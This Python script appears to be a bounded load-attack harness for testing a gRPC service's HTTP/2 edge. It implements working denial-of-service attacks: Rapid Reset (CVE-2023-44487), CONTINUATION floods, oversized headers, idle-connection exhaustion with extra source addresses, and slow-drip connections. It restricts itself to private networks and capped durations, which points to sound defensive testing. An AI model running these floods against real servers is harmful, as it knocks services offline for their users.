"""Callers that mean harm. Runs beside the composed system, in a container with an address of its own:

    attacks.py KIND HOST PORT SECONDS CERTIFICATES

Only addresses of private networks are attacked, for SECONDS at most, and within the counts below.
Prints what it did as one line of JSON.
"""

import contextlib
import ipaddress
import json
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)

SECONDS_MAX = 60
TIMEOUT_SECONDS = 5
STREAMS_MAX = 400_000
BYTES_MAX = 1 << 30
CONNECTIONS_MAX = 60_000
# Beyond what one address may have at the edge, and what one connection may have of streams.
SLOW_CONNECTIONS = 60
SLOW_STREAMS = 100
# Each takes half of what one address may have at the edge; together more than the edge has.
ADDRESSES = 60
IDLE_PER_ADDRESS = 25


def frame(kind, flags, stream, payload=b""):
    """One frame of HTTP/2 on the wire."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header as HPACK writes it when nothing is remembered."""
    return b"\x00" + length(name) + name + length(value) + value


def length(text):
    """A length as HPACK writes it: seven bits, then seven more at a time."""
    if len(text) < 127:
        return bytes((len(text),))
    rest = len(text) - 127
    out = bytearray(b"\x7f")
    while rest >= 128:
        out.append(0x80 | rest & 0x7F)
        rest >>= 7
    out.append(rest)
    return bytes(out)


def call(path=b"/dondoc.registry.v1.RegistryService/ListTasks"):
    """The headers of a call."""
    return (b"\x83\x87" + b"\x04" + length(path) + path + b"\x01" + length(b"edge") + b"edge"
            + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


class Attack:
    """Where it goes, until when, and what it counts."""

    def __init__(self, host, port, seconds, certificates):
        self.address = (socket.gethostbyname(host), port)
        if not ipaddress.ip_address(self.address[0]).is_private:
            raise SystemExit(f"{host} is not of a private network")
        self.deadline = time.monotonic() + min(seconds, SECONDS_MAX)
        self.context = ssl.create_default_context(cafile=f"{certificates}/ca.pem")
        self.context.set_alpn_protocols(["h2"])
        self.context.load_cert_chain(f"{certificates}/certificate.pem",
                                     f"{certificates}/certificate.key")
        self.counts = dict.fromkeys(("connections", "refused", "streams", "bytes", "held"), 0)
        self.lock = threading.Lock()

    def count(self, **more):
        """Adds to the counts."""
        with self.lock:
            for name, value in more.items():
                self.counts[name] += value

    def goes_on(self):
        """Whether there is time and the counts are within bounds."""
        return (time.monotonic() < self.deadline and self.counts["streams"] < STREAMS_MAX
                and self.counts["bytes"] < BYTES_MAX
                and self.counts["connections"] < CONNECTIONS_MAX)

    @contextlib.contextmanager
    def connection(self):
        """A connection that has begun HTTP/2."""
        plain = socket.create_connection(self.address, timeout=TIMEOUT_SECONDS)
        self.count(connections=1)
        with plain, self.context.wrap_socket(plain, server_hostname="edge") as connected:
            connected.sendall(PREFACE + frame(SETTINGS, 0, 0))
            yield connected

    def send(self, connected, data, streams=0):
        """Throws away what came, sends, and counts."""
        connected.settimeout(0)
        with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError):
            while connected.recv(65_536):
                pass
            raise ConnectionError("the edge hung up")
        connected.settimeout(TIMEOUT_SECONDS)
        connected.sendall(data)
        self.count(bytes=len(data), streams=streams)

    def again_and_again(self, once):
        """Begins anew whenever the edge hangs up."""
        while self.goes_on():
            try:
                once()
            except OSError:
                self.count(refused=1)
                # A refused connection costs the attacker a millisecond, as one from afar would.
                time.sleep(0.001)


def resets(attack):
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    headers = call()

    def once():
        with attack.connection() as connected:
            stream = 1
            while attack.goes_on():
                batch = b"".join(frame(HEADERS, END_HEADERS, number, headers)
                                 + frame(RST_STREAM, 0, number, CANCEL)
                                 for number in range(stream, stream + 200, 2))
                attack.send(connected, batch, streams=100)
                stream += 200

    attack.again_and_again(once)


def continuations(attack):
    """Headers that never end (CVE-2023-33953, CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, literal(b"x-filler", b"a" * 8_000))

    def once():
        with attack.connection() as connected:
            attack.send(connected, frame(HEADERS, 0, 1, call()), streams=1)
            while attack.goes_on():
                attack.send(connected, more)

    attack.again_and_again(once)


def headers_too_large(attack):
    """Whole headers of 8 KiB to 1 MiB, in one field and in many."""
    sizes = (8_000, 14_000, 64_000, 1 << 20)

    def request(stream, block):
        out = frame(HEADERS, END_STREAM, stream, block[:16_000])
        parts = [block[at:at + 16_000] for at in range(16_000, len(block), 16_000)] or [b""]
        for part in parts[:-1]:
            out += frame(CONTINUATION, 0, stream, part)
        return out + frame(CONTINUATION, END_HEADERS, stream, parts[-1])

    def once():
        with attack.connection() as connected:
            stream = 1
            for size in sizes:
                one = call() + literal(b"x-large", b"a" * size)
                many = call() + b"".join(literal(b"x-%d" % number, b"a" * 40)
                                         for number in range(size // 40))
                for block in (one, many):
                    attack.send(connected, request(stream, block), streams=1)
                    stream += 2

    attack.again_and_again(once)


def idle(attack):
    """Connections that say nothing, as many as one address can open."""
    held = []
    while attack.goes_on():
        try:
            held.append(socket.create_connection(attack.address, timeout=1))
            attack.count(connections=1)
        except OSError:
            attack.count(refused=1)
            # What the edge has ended already makes room for more.
            for connected in held[:1_000]:
                connected.close()
            del held[:1_000]
    attack.counts["held"] = len(held)


def more_addresses():
    """Takes addresses at the end of the container's own network."""
    known = subprocess.run(("ip", "-j", "-4", "addr", "show", "dev", "eth0"), check=True,
                           capture_output=True)
    own = json.loads(known.stdout)[0]["addr_info"][0]
    network = ipaddress.ip_interface(f"{own['local']}/{own['prefixlen']}").network
    addresses = [str(network.broadcast_address - 1 - number) for number in range(ADDRESSES)]
    for address in addresses:
        subprocess.run(("ip", "addr", "add", f"{address}/{network.prefixlen}", "dev", "eth0"),
                       check=True)
    return addresses


def idle_from_many(attack):
    """Connections that say nothing, from many addresses, more together than the edge takes."""
    held = []
    for source in more_addresses():
        for _ in range(IDLE_PER_ADDRESS):
            try:
                held.append(socket.create_connection(attack.address, timeout=1,
                                                     source_address=(source, 0)))
                attack.count(connections=1)
            except OSError:
                attack.count(refused=1)
    attack.counts["held"] = len(held)
    time.sleep(max(0.0, attack.deadline - time.monotonic()))


def slow(attack):
    """Callers that speak a byte at a time: in TLS, in their headers, in their bodies."""
    greeting = b"\x16\x03\x01\x02\x00"

    def drip(connected, data):
        for at in range(len(data)):
            if not attack.goes_on():
                return
            attack.send(connected, data[at:at + 1])
            time.sleep(0.5)

    def in_tls():
        with socket.create_connection(attack.address, timeout=TIMEOUT_SECONDS) as connected:
            attack.count(connections=1)
            drip(connected, greeting * 100)

    def in_headers():
        with attack.connection() as connected:
            drip(connected, frame(HEADERS, END_HEADERS, 1, call()))

    def in_bodies():
        with attack.connection() as connected:
            streams = range(1, 2 * SLOW_STREAMS, 2)
            attack.send(connected, b"".join(frame(HEADERS, END_HEADERS, number, call())
                                            for number in streams), streams=SLOW_STREAMS)
            while attack.goes_on():
                attack.send(connected, b"".join(frame(DATA, 0, number, b"\x00")
                                                for number in streams))
                time.sleep(0.5)

    # So that what is refused is not asked for a thousand times a second: these are slow.
    def slowly(once):
        with contextlib.suppress(OSError):
            once()
        time.sleep(0.5)

    kinds = (in_tls, in_headers, in_bodies)
    threads = [threading.Thread(
        target=attack.again_and_again, args=(lambda once=kinds[number % 3]: slowly(once),))
        for number in range(SLOW_CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


KINDS = {
    "resets": resets,
    "continuations": continuations,
    "headers": headers_too_large,
    "idle": idle,
    "idle-from-many": idle_from_many,
    "slow": slow,
}


def main(kind, host, port, seconds, certificates):
    """Attacks, and tells."""
    attack = Attack(host, int(port), float(seconds), certificates)
    KINDS[kind](attack)
    print(json.dumps(attack.counts))


if __name__ == "__main__":
    main(*sys.argv[1:])
